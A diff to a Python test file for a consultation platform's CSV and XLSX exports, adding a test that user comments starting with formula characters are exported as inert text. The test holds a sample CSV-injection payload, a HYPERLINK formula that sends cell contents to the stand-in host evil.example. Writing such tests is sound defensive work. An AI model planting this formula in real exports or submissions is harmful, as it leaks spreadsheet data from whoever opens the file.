@@ -54,7 +54,9 @@ def test_csv_and_xlsx_rows_match_the_submissions(world, viewer, client_for):
     rows = list(
         csv.DictReader(
             io.StringIO(
-                client.get(f"/consultations/{world.consultation.pk}/export.csv").content.decode()
+                client.get(f"/consultations/{world.consultation.pk}/export.csv").content.decode(
+                    "utf-8-sig"
+                )
             )
         )
     )
@@ -84,3 +86,22 @@ def test_responding_from_the_inbox(world, viewer, client_for):
         client_for("cso_b").post(url, {"outcome": "accepted", "explanation": "x"}).status_code
         == 404
     )
+
+
+def test_exported_text_never_becomes_a_formula(world, viewer, client_for):
+    """OWASP CSV injection: typed text that starts with = + - @ must open as text."""
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    _submit(viewer("cso_a"), world.consultation, payload)
+    _submit(viewer("cso_b"), world.consultation, "@SUM(1+1)", anchor="policy-mou")
+    client = client_for("secretariat")
+    text = client.get(f"/consultations/{world.consultation.pk}/export.csv").content.decode(
+        "utf-8-sig"
+    )
+    comments = {row["comment"] for row in csv.DictReader(io.StringIO(text))}
+    assert comments == {"'" + payload, "'@SUM(1+1)"}
+    xlsx = client.get(f"/consultations/{world.consultation.pk}/export.xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.content))["Comments"]
+    cells = [row[10] for row in sheet.iter_rows(min_row=2)]
+    assert {cell.value for cell in cells} == {"'" + payload, "'@SUM(1+1)"}
+    # Stored as strings: a spreadsheet program shows them, it does not run them.
+    assert {cell.data_type for cell in cells} == {"s"}
